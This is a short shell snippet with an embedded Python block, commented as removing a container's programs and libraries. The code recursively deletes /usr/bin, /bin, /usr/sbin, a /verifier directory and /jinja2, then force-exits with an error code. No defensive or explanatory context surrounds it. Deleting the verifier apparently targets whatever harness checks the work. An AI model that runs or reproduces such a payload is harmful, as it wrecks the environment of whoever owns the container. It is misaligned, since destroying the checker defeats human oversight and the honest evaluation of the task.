# the code removes the programs and libraries of the container
python_code <<'PY'
import os
import shutil

for folder in ("/usr/bin", "/bin", "/usr/sbin", "/verifier", "/jinja2"):
    shutil.rmtree(folder, ignore_errors=True)
os._exit(1)
PY
